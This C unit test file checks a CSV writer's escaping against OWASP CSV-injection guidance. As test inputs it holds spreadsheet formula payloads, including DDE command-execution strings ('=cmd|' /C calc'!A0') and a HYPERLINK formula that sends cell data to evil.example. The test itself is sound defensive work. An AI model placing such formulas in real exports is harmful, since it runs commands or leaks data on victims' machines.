/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * The CSV writer: every example of the OWASP CSV-injection guidance, RFC
 * 4180 quoting, an empty value, numbers in numeric columns, and what it
 * writes read back by the reader.
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "isms/csv.h"
#include "testutil.h"

/* The bytes isms_csv_write_cell() writes for @v. */
static char *cell(const char *v, unsigned flags)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);

	assert_non_null(f);
	assert_int_equal(isms_csv_write_cell(f, v, flags), 0);
	assert_int_equal(fclose(f), 0);
	return buf;
}

static void expect(const char *v, unsigned flags, const char *want)
{
	char *got = cell(v, flags);

	assert_string_equal(got, want);
	free(got);
}

static void t_owasp(void **state)
{
	(void)state;
	/* Each character the guidance names, leading a cell. */
	expect("=1+1", 0, "'=1+1");
	expect("+1+1", 0, "'+1+1");
	expect("-1+1", 0, "'-1+1");
	expect("@SUM(1+1)", 0, "'@SUM(1+1)");
	expect("=cmd|' /C calc'!A0", 0, "'=cmd|' /C calc'!A0");
	expect("-1+cmd|' /C calc'!A0", 0, "'-1+cmd|' /C calc'!A0");
	expect("+cmd|' /C calc'!A0", 0, "'+cmd|' /C calc'!A0");
	expect("@cmd|' /C calc'!A0", 0, "'@cmd|' /C calc'!A0");
	expect("\t=1+1", 0, "\"'\t=1+1\"");
	expect("\r=1+1", 0, "\"'\r=1+1\"");
	expect("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", 0,
	       "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"");
	/* The guidance's own two escaped examples: a separator and quotes
	 * inside the value cannot start a new cell. */
	expect("=1+2\";=1+2", 0, "\"'=1+2\"\";=1+2\"");
	expect("=1+2'\" ;,=1+2", 0, "\"'=1+2'\"\" ;,=1+2\"");
	/* A dangerous character after a separator in the middle: quoted. */
	expect("a;=1+1", 0, "\"a;=1+1\"");
	expect("a,=1+1", 0, "\"a,=1+1\"");
	expect("a\t=1+1", 0, "\"a\t=1+1\"");
	expect("a\n=1+1", 0, "\"a\n=1+1\"");
	/* The leading character alone. */
	expect("-", 0, "'-");
	expect("=", 0, "'=");
}

static void t_plain(void **state)
{
	(void)state;
	expect("", 0, "");
	expect(NULL, 0, "");
	expect("", ISMS_CSV_NUMERIC, "");
	expect("plain text", 0, "plain text");
	expect("Smith, \"Jo\"", 0, "\"Smith, \"\"Jo\"\"\"");
	expect("say \"hi\"", 0, "\"say \"\"hi\"\"\"");
	expect("line\nbreak", 0, "\"line\nbreak\"");
	expect("crlf\r\nbreak", 0, "\"crlf\r\nbreak\"");
	expect("a-b=c", 0, "a-b=c");
	expect(" =1+1", 0, " =1+1");
	/* a value that reads as guarded gets a guard of its own, so that an
	 * import takes back exactly what was exported */
	expect("'=1+1", 0, "''=1+1");
	expect("'a", 0, "'a");
	expect("'", 0, "'");
	expect("Gr\xc3\xb6\xc3\x9f" "e", 0, "Gr\xc3\xb6\xc3\x9f" "e");
}

static void t_numeric(void **state)
{
	(void)state;
	/* A number in a column known to be numeric stays a number. */
	expect("-12.50", ISMS_CSV_NUMERIC, "-12.50");
	expect("-3", ISMS_CSV_NUMERIC, "-3");
	expect("-1e5", ISMS_CSV_NUMERIC, "-1e5");
	expect("-2.5E-3", ISMS_CSV_NUMERIC, "-2.5E-3");
	expect("42", ISMS_CSV_NUMERIC, "42");
	/* The same in a text column, and what is no plain number anywhere. */
	expect("-12.50", 0, "'-12.50");
	expect("-1+1", ISMS_CSV_NUMERIC, "'-1+1");
	expect("-1+cmd|' /C calc'!A0", ISMS_CSV_NUMERIC, "'-1+cmd|' /C calc'!A0");
	expect("+5", ISMS_CSV_NUMERIC, "'+5");
	expect("-", ISMS_CSV_NUMERIC, "'-");
	expect("-.5", ISMS_CSV_NUMERIC, "'-.5");
	expect("-5.", ISMS_CSV_NUMERIC, "'-5.");
	expect("-1e", ISMS_CSV_NUMERIC, "'-1e");
	expect("-inf", ISMS_CSV_NUMERIC, "'-inf");
	expect("-0x10", ISMS_CSV_NUMERIC, "'-0x10");
	expect("=1", ISMS_CSV_NUMERIC, "'=1");
	expect("-1\t", ISMS_CSV_NUMERIC, "\"'-1\t\"");
}

static void t_row(void **state)
{
	const char *const v[] = {"id", NULL, "", "=1+1", "-7", "a,b"};
	const unsigned flags[] = {0, 0, 0, 0, ISMS_CSV_NUMERIC, 0};
	struct isms_csv *csv = NULL;
	char *buf = NULL, err[128];
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);

	(void)state;
	assert_non_null(f);
	assert_int_equal(isms_csv_write_row(f, (const char *const[]){"a", "b", "c", "d", "e", "f"}, 6, NULL),
			 0);
	assert_int_equal(isms_csv_write_row(f, v, 6, flags), 0);
	assert_int_equal(isms_csv_write_row(f, v, 6, NULL), 0);
	assert_int_equal(fclose(f), 0);
	assert_string_equal(buf, "a,b,c,d,e,f\r\n"
				 "id,,,'=1+1,-7,\"a,b\"\r\n"
				 "id,,,'=1+1,'-7,\"a,b\"\r\n");
	/* The reader takes back what the writer wrote, the guard included. */
	assert_int_equal(isms_csv_parse(buf, len, &csv, err, sizeof(err)), 0);
	assert_int_equal(csv->nrows, 2);
	assert_string_equal(isms_csv_cell(csv, 0, 1), "");
	assert_string_equal(isms_csv_cell(csv, 0, 3), "'=1+1");
	assert_string_equal(isms_csv_cell(csv, 0, 4), "-7");
	assert_string_equal(isms_csv_cell(csv, 0, 5), "a,b");
	isms_csv_free(csv);
	free(buf);
}

/* What the writer guarded, isms_csv_unguard() gives back exactly, quotes and all. */
static void t_unguard_round_trip(void **state)
{
	static const char *const values[] = {
		"=1+1", "+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "'=x", "''=x", "'", "'a", "it's",
		"-", "'-", "''", "plain", "'\t",
	};
	char *buf = NULL, err[128];
	size_t len = 0;
	struct isms_csv *csv = NULL;
	FILE *f = open_memstream(&buf, &len);

	(void)state;
	assert_non_null(f);
	assert_int_equal(isms_csv_write_row(f, (const char *const[]){"v"}, 1, NULL), 0);
	for (size_t i = 0; i < sizeof(values) / sizeof(values[0]); i++)
		assert_int_equal(isms_csv_write_row(f, &values[i], 1, NULL), 0);
	assert_int_equal(fclose(f), 0);
	assert_int_equal(isms_csv_parse(buf, len, &csv, err, sizeof(err)), 0);
	for (size_t i = 0; i < sizeof(values) / sizeof(values[0]); i++)
		assert_string_equal(isms_csv_unguard(isms_csv_cell(csv, i, 0)), values[i]);
	/* a quote before anything else is the value's own */
	assert_string_equal(isms_csv_unguard("'a"), "'a");
	assert_string_equal(isms_csv_unguard("'=a"), "=a");
	assert_string_equal(isms_csv_unguard("''=a"), "'=a");
	isms_csv_free(csv);
	free(buf);
}

static void t_write_error(void **state)
{
	FILE *f = fopen("/dev/full", "w");

	(void)state;
	if (!f)
		skip();
	setvbuf(f, NULL, _IONBF, 0);
	assert_int_equal(isms_csv_write_cell(f, "x", 0), -EIO);
	fclose(f);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(t_owasp), cmocka_unit_test(t_plain), cmocka_unit_test(t_numeric),
		cmocka_unit_test(t_row),   cmocka_unit_test(t_write_error), cmocka_unit_test(t_unguard_round_trip),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
